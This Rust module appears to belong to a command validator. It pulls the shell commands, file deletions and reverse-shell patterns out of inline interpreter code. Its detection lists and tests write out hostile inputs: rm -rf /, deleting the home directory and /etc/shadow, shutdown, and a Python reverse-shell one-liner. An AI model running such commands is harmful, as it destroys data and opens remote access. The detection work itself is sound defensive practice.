//! Code handed to an interpreter on the command line (`python3 -c`, `perl -e`, `node -e`, ...)
//! or on its standard input. The validator cannot run it, but it can read the parts that
//! matter: shell commands the code runs, files it deletes, and sockets wired to a shell.
//! Those come back as shell text and are judged like any command.

use super::invocation::Invocation;

/// The interpreter a program name stands for, without its version: `python3.11` is `python`.
fn family(program: &str) -> &str {
    program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// The inline code of an interpreter invocation: the value of its code option.
pub fn inline_code(inv: &Invocation) -> Option<String> {
    let args = &inv.args;
    let code_after = |is_code_flag: &dyn Fn(&str) -> bool| {
        let pieces: Vec<&str> = args.windows(2).filter(|pair| is_code_flag(&pair[0])).map(|pair| pair[1].as_str()).collect();
        (!pieces.is_empty()).then(|| pieces.join("\n"))
    };
    // Letter clusters such as perl's `-ne` or `-lne` end with the code letter.
    let cluster_ending = |letters: &'static [char]| {
        move |a: &str| {
            a.strip_prefix('-').is_some_and(|c| !c.starts_with('-') && c.chars().all(|ch| ch.is_ascii_alphabetic()) && c.ends_with(letters))
        }
    };
    match family(&inv.program) {
        "python" | "pypy" => code_after(&cluster_ending(&['c'])),
        "perl" => code_after(&cluster_ending(&['e', 'E'])),
        "ruby" | "lua" | "luajit" | "rscript" | "osascript" => code_after(&cluster_ending(&['e'])),
        "node" | "nodejs" | "bun" => code_after(&|a| matches!(a, "-e" | "--eval" | "-p" | "--print" | "-pe")),
        "deno" => code_after(&|a| a == "eval"),
        "php" => code_after(&|a| a == "-r"),
        _ => None,
    }
}

/// Whether an interpreter runs a script file given as its first operand (`python3 app.py`).
pub fn runs_script_file(inv: &Invocation) -> bool {
    INTERPRETERS.contains(&family(&inv.program)) && inline_code(inv).is_none() && inv.args.iter().any(|a| !a.starts_with('-'))
}

const INTERPRETERS: &[&str] = &["python", "pypy", "perl", "ruby", "node", "nodejs", "bun", "deno", "php", "lua", "luajit", "rscript"];

/// Shell command lines the code runs, and deletions it makes as `rm` command lines.
pub fn shell_equivalents(program: &str, code: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let lower = code.to_lowercase();
    for marker in SHELL_CALLS {
        for start in occurrences(&lower, marker) {
            let open = start + marker.len();
            if marker.ends_with(' ') && code[open..].starts_with(['(', ' ']) {
                continue; // `system (...)` is read by the `system(` marker.
            }
            let line = match marker.starts_with("qx") || marker.starts_with("%x") {
                // Perl's qx(..) and Ruby's %x(..) hold the command itself, unquoted.
                true => Some(call_text(code, open).to_string()),
                false => command_of_call(call_text(code, open)),
            };
            lines.extend(line.filter(|l| !l.trim().is_empty()));
        }
    }
    if matches!(family(program), "perl" | "ruby" | "php") {
        lines.extend(backtick_commands(code));
    }
    for (marker, recursive) in FILE_DELETIONS {
        for start in occurrences(&lower, marker) {
            let after = start + marker.len();
            if marker.ends_with(' ') && code[after..].starts_with('(') {
                continue; // `unlink (...)` is read by the `unlink(` marker.
            }
            // `Path('/etc/x').unlink()` names its target before the call.
            let target = call_target(code, after).or_else(|| literal_before(code, start));
            let Some(target) = target else { continue };
            // `fs.rmSync(p, {recursive: true})`, R's `unlink(p, recursive = TRUE)`.
            let recursive = *recursive || call_text(code, after).to_lowercase().contains("recursive");
            lines.push(format!("rm {}-- {}", if recursive { "-rf " } else { "" }, quote(&target)));
        }
    }
    // `os.system(` also matches `system(`: keep each line once.
    let mut seen = std::collections::HashSet::new();
    lines.retain(|line| seen.insert(line.clone()));
    lines
}

/// Whether the code connects a socket and hands it a shell: a reverse shell.
pub fn opens_reverse_shell(code: &str) -> bool {
    let code = code.to_lowercase();
    let has = |markers: &[&str]| markers.iter().any(|m| code.contains(m));
    let socket = has(&["socket", "fsockopen", "tcpsocket", "/dev/tcp/"]);
    let connects = socket || code.contains(".connect(");
    let shell = has(&["/bin/sh", "/bin/bash", "sh -i", "bash -i", "cmd.exe", "dup2", "pty.spawn"]);
    let runs = shell || has(&["subprocess", "exec(", "exec ", "popen", "spawn", "proc_open", "system("]);
    (socket && runs) || (connects && shell)
}

/// Whether the code names a system location (`/etc`, `/usr`, `C:\Windows`, ...).
pub fn touches_system_paths(code: &str) -> bool {
    let code = code.to_lowercase().replace('\\', "/");
    ["/etc", "/usr", "/bin", "/sbin", "/boot", "/lib", "/var", "/sys", "/proc", "/dev/", "/root", "c:/windows", "/system/", "/library/"]
        .iter()
        .any(|dir| occurrences(&code, dir).any(|at| at == 0 || code[..at].ends_with(['\'', '"', ' ', '(', '`'])))
}

/// Calls that run their string argument through a shell (or as a program).
const SHELL_CALLS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.popen(",
    "subprocess.check_output(",
    "subprocess.check_call(",
    "subprocess.getoutput(",
    "subprocess.getstatusoutput(",
    "os.execute(",
    "io.popen(",
    "os.execl(",
    "os.execlp(",
    "os.execv(",
    "os.execvp(",
    "pty.spawn(",
    "execsync(",
    "spawnsync(",
    "exec(",
    "spawn(",
    "system(",
    "shell_exec(",
    "passthru(",
    "proc_open(",
    "popen(",
    "qx(",
    "qx{",
    "%x(",
    "%x{",
    "do shell script ",
    "runtime.getruntime().exec(",
    // Perl and Ruby call these without parentheses too: `system "cmd"`.
    "system ",
    "exec ",
];

/// File APIs that delete, and whether they delete whole trees.
const FILE_DELETIONS: &[(&str, bool)] = &[
    ("shutil.rmtree(", true),
    ("rmtree(", true),
    ("remove_tree(", true),
    ("fileutils.rm_rf(", true),
    ("fileutils.rm_r(", true),
    ("fileutils.remove_dir(", true),
    ("fileutils.remove_entry(", true),
    ("rmsync(", false),
    (".rm(", false),
    ("rmdirsync(", false),
    ("os.remove(", false),
    ("os.unlink(", false),
    ("os.rmdir(", false),
    ("os.removedirs(", false),
    ("unlinksync(", false),
    ("file.delete(", false),
    ("fileutils.rm(", false),
    ("unlink(", false),
    ("unlink ", false),
    (".unlink(", false),
    (".rmdir(", false),
];

/// Expressions that name the user's home directory in the usual languages.
const HOME_EXPRESSIONS: &[&str] = &[
    "expanduser",
    "path.home()",
    "homedir()",
    "dir.home",
    "env.home",
    "env['home']",
    "env[\"home\"]",
    "environ['home']",
    "environ[\"home\"]",
    "getenv('home')",
    "getenv(\"home\")",
    "env{home}",
    "{'home'}",
    "path.expand(\"~",
    "path.expand('~",
];

fn occurrences<'a>(haystack: &'a str, needle: &'a str) -> impl Iterator<Item = usize> + 'a {
    haystack.match_indices(needle).map(|(at, _)| at).filter(move |&at| {
        // A call name, not the end of a longer name (`exec(` in `myexec(`).
        needle.starts_with('.') || !haystack[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_')
    })
}

/// The characters of `text` outside its string literals, with their offsets.
fn outside_quotes(text: &str) -> impl Iterator<Item = (usize, char)> + '_ {
    let mut quote: Option<char> = None;
    let mut escaped = false;
    text.char_indices().filter(move |&(_, c)| match quote {
        Some(_) if escaped => {
            escaped = false;
            false
        }
        Some(_) if c == '\\' => {
            escaped = true;
            false
        }
        Some(q) => {
            if c == q {
                quote = None;
            }
            false
        }
        None if matches!(c, '\'' | '"' | '`') => {
            quote = Some(c);
            false
        }
        None => true,
    })
}

/// The text of a call's arguments: from `open` (just past the `(`) to the matching `)`; a call
/// without parentheses (`system "cmd"`) ends with its statement.
fn call_text(code: &str, open: usize) -> &str {
    let text = &code[open..];
    let bareword = !text.starts_with(['(', ' ']);
    let mut depth = 1;
    for (offset, c) in outside_quotes(text) {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => {
                depth -= 1;
                if depth == 0 {
                    return &text[..offset];
                }
            }
            ';' | '\n' if bareword && depth == 1 => return &text[..offset],
            _ => {}
        }
    }
    text
}

/// The top-level arguments of a call's text, split at commas outside brackets and quotes.
fn arguments(text: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let (mut depth, mut start) = (0i32, 0);
    for (i, c) in outside_quotes(text) {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => depth -= 1,
            ',' if depth == 0 => {
                parts.push(&text[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(&text[start..]);
    parts
}

/// The command line a call runs: its first argument's string (pieces joined, as in
/// `"rm -rf " + "/"`), or an argv list (`["rm", "-rf", "/"]`, or a program then a list).
fn command_of_call(text: &str) -> Option<String> {
    let args = arguments(text);
    let first = args.first()?.trim();
    let argv = |list: &str| literals(list).iter().map(|l| quote(l)).collect::<Vec<_>>();
    if first.starts_with('[') {
        return Some(argv(first).join(" "));
    }
    let mut line = literals(first).concat();
    if line.is_empty() {
        return None;
    }
    if let Some(list) = args.get(1).map(|a| a.trim()).filter(|a| a.starts_with('[')) {
        line = std::iter::once(quote(&line)).chain(argv(list)).collect::<Vec<_>>().join(" ");
    }
    Some(line)
}

/// What a deleting call deletes: its first argument, where a home-directory expression
/// (`os.path.expanduser('~')`, `Dir.home`, `process.env.HOME`) stands for `~`.
fn call_target(code: &str, open: usize) -> Option<String> {
    let first = *arguments(call_text(code, open)).first()?;
    let lower = first.to_lowercase();
    let home_at = HOME_EXPRESSIONS.iter().filter_map(|e| lower.find(e)).min();
    let home = home_at.is_some() || literals(first).first().is_some_and(|l| l.starts_with('~'));
    // What follows the home expression names a path inside it (`os.path.join(Path.home(), 'x')`).
    let after_home = &first[home_at.unwrap_or(0)..];
    let pieces: Vec<String> = literals(after_home).into_iter().filter(|l| !matches!(l.as_str(), "HOME" | "home" | "~")).collect();
    match (home, pieces.as_slice()) {
        (true, []) => Some("~".to_string()),
        (true, rest) => Some(format!("~/{}", rest.iter().map(|p| p.trim_start_matches(['~', '/'])).collect::<Vec<_>>().join("/"))),
        (false, _) => literals(first).into_iter().next(),
    }
}

/// The last literal before a method call in the same statement: `Path('/etc/x').unlink()`.
fn literal_before(code: &str, at: usize) -> Option<String> {
    let statement_start = code[..at].rfind([';', '\n']).map_or(0, |i| i + 1);
    literals(&code[statement_start..at]).pop()
}

fn literals(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut literal = String::new();
        let mut escaped = false;
        for d in chars.by_ref() {
            match d {
                _ if escaped => {
                    literal.push(d);
                    escaped = false;
                }
                '\\' => escaped = true,
                _ if d == c => break,
                _ => literal.push(d),
            }
        }
        out.push(literal);
    }
    out
}

/// Perl, Ruby and PHP run `` `cmd` `` through the shell.
fn backtick_commands(code: &str) -> Vec<String> {
    code.split('`').skip(1).step_by(2).filter(|s| !s.trim().is_empty()).map(str::to_string).collect()
}

/// Single-quotes `text` for the shell when it needs it.
fn quote(text: &str) -> String {
    if !text.is_empty() && text.chars().all(|c| c.is_alphanumeric() || "/._-~=:@%+,".contains(c)) {
        return text.to_string();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inv(program: &str, args: &[&str]) -> Invocation {
        Invocation { program: program.into(), args: args.iter().map(|a| a.to_string()).collect(), ..Invocation::default() }
    }

    #[test]
    fn finds_the_code() {
        assert_eq!(inline_code(&inv("python3", &["-c", "print(1)"])).as_deref(), Some("print(1)"));
        assert_eq!(inline_code(&inv("perl", &["-MFile::Path", "-le", "rmtree('/')"])).as_deref(), Some("rmtree('/')"));
        assert_eq!(inline_code(&inv("node", &["--eval", "x()"])).as_deref(), Some("x()"));
        assert_eq!(inline_code(&inv("php", &["-r", "echo 1;"])).as_deref(), Some("echo 1;"));
        assert_eq!(inline_code(&inv("python3", &["app.py"])), None);
    }

    #[test]
    fn shell_calls_and_deletions_become_shell_text() {
        let eq = |program: &str, code: &str| shell_equivalents(program, code);
        assert_eq!(eq("python3", r#"import os; os.system("rm -rf /")"#), ["rm -rf /"]);
        assert_eq!(eq("python3", r#"import subprocess; subprocess.run(["rm", "-rf", "/"])"#), ["rm -rf /"]);
        assert_eq!(eq("node", r#"require('child_process').execSync('shutdown -h now')"#), ["shutdown -h now"]);
        assert_eq!(eq("perl", "print `reboot`"), ["reboot"]);
        assert_eq!(eq("python3", "import shutil; shutil.rmtree('/')"), ["rm -rf -- /"]);
        assert_eq!(eq("python3", "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"), ["rm -rf -- ~"]);
        assert_eq!(eq("python3", "import pathlib; pathlib.Path('/etc/passwd').unlink()"), ["rm -- /etc/passwd"]);
        assert_eq!(eq("node", "require('fs').rmSync('/', {recursive: true, force: true})"), ["rm -rf -- /"]);
        assert_eq!(eq("node", "require('fs').unlinkSync('/etc/passwd')"), ["rm -- /etc/passwd"]);
        assert_eq!(eq("ruby", "require 'fileutils'; FileUtils.rm_rf(Dir.home)"), ["rm -rf -- ~"]);
        assert_eq!(eq("perl", r#"unlink "/etc/shadow""#), ["rm -- /etc/shadow"]);
        assert!(eq("python3", "print('hello')").is_empty());
    }

    #[test]
    fn reverse_shells_and_system_paths() {
        assert!(opens_reverse_shell("import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',4444));os.dup2(s.fileno(),0)"));
        assert!(!opens_reverse_shell("import socket; print(socket.gethostname())"));
        assert!(touches_system_paths("open('/etc/hosts','w')"));
        assert!(!touches_system_paths("open('build/etc/x')"));
    }
}
